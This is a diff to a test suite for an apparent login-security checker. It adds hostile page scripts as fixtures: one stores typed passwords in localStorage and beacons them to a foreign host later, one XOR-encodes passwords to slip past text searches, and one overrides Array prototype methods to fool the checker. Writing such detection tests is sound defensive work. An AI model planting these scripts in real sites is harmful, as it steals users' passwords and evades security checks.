@@ -47,6 +47,11 @@ const spy = (origins: readonly string[]): string => `
   }
   document.querySelector('input[type=password]').addEventListener('input', () => { ${waysOut.map((way, i) => way(origins[i] ?? '')).join(';\n')} });`;
 
+/** Keeps what is typed, and sends what is kept. */
+const queue = (to: string): string => `
+  if (localStorage.getItem('queue')) new Image().src = '${to}/queue?' + localStorage.getItem('queue');
+  document.querySelector('input[type=password]')?.addEventListener('input', e => localStorage.setItem('queue', btoa(e.target.value)));`;
+
 const worker = (origin: string): string => `
   addEventListener('install', () => skipWaiting());
   addEventListener('activate', event => event.waitUntil(clients.claim()));
@@ -69,7 +74,9 @@ const sentOn = (to: string): Play =>
 
 const cases: readonly {
   strangers?: number;
-  hostile: (origin: string, all: readonly string[]) => Omit<Hostile, 'rows'>;
+  /** The foreign host must have been asked for it. */
+  asked?: string;
+  hostile: (origin: string, all: readonly string[]) => Omit<Hostile, 'rows'> & Partial<Pick<Hostile, 'rows'>>;
 }[] = [
   {
     hostile: origin => ({
@@ -84,7 +91,12 @@ const cases: readonly {
       title: 'login page goes on to a foreign host',
       exit: 1,
       verdicts: away,
-      scenes: [withScript('/login', `location.replace('${origin}/login');`)],
+      scenes: [
+        withScript(
+          '/login',
+          `Array.prototype.includes = () => true; Array.prototype.indexOf = () => 0; location.replace('${origin}/login');`,
+        ),
+      ],
     }),
   },
   {
@@ -132,9 +144,55 @@ const cases: readonly {
       ],
     }),
   },
+  {
+    hostile: origin => ({
+      title: 'login page keeps the password and sends it at the next visit',
+      exit: 1,
+      rows: [...rows, 'password-storage', 'login-return-path'],
+      verdicts: { 'password-stays-home': 'fail', 'password-storage': 'advice' },
+      scenes: [withScript('/login', queue(origin))],
+      says: new RegExp(`observation "authGuard"[^]*the password was about to be sent to ${origin} \\(image\\)`),
+    }),
+  },
+  {
+    hostile: origin => ({
+      title: 'dashboard sends on what the login page kept: no further page is opened',
+      exit: 1,
+      rows: [...rows, 'auth-guard', 'logout'],
+      verdicts: { 'password-stays-home': 'fail', 'auth-guard': 'not judged', logout: 'not judged' },
+      scenes: [withScript('/login', queue(origin)), withScript('/dashboard', queue(origin))],
+    }),
+  },
+  {
+    hostile: origin => ({
+      title: 'login page sends the password in a spelling that nobody searches for',
+      exit: 0,
+      says: /keeps all/,
+      scenes: [
+        withScript(
+          '/login',
+          `document.querySelector('input[type=password]').addEventListener('input', e => { const odd = [...e.target.value].map((c, i) => (c.charCodeAt(0) ^ (7 * i + 90)).toString(36)).join('-'); new Image().src = '${origin}/odd?' + odd; fetch('${origin}/odd-' + odd, { mode: 'no-cors', keepalive: true }); });`,
+        ),
+      ],
+    }),
+  },
+  {
+    asked: '/data',
+    hostile: origin => ({
+      title: 'dashboard of a good product needs what lies on a foreign host',
+      exit: 0,
+      rows: [...rows, 'page-errors', 'auth-guard'],
+      scenes: [
+        withScript(
+          '/dashboard',
+          `fetch('${origin}/data').then(answer => { if (answer.status !== 200) { document.body.textContent = ''; throw new Error('no data'); } });`,
+        ),
+      ],
+    }),
+  },
 ];
 
-for (const { strangers = 1, hostile } of cases) {
+for (const { strangers = 1, asked, hostile } of cases) {
   test(hostile('', []).title, async () => {
     const met = await Promise.all([...Array(strangers).keys()].map(startStranger));
     try {
@@ -149,6 +207,8 @@ for (const { strangers = 1, hostile } of cases) {
       for (const { told } of met)
         for (const text of told)
           expect(redactor.text(text, true) === text, 'the password arrived at a foreign host').toBe(true);
+      for (const { told } of met) expect(told.join('\n'), 'nothing odd arrived').not.toContain('/odd');
+      if (asked !== undefined) expect(met[0]?.told.join('\n')).toContain(asked);
       expect(passwords[0]?.length, 'there was a password to look for').toBeGreaterThan(8);
     } finally {
       await Promise.all(met.map(stranger => stranger.close()));
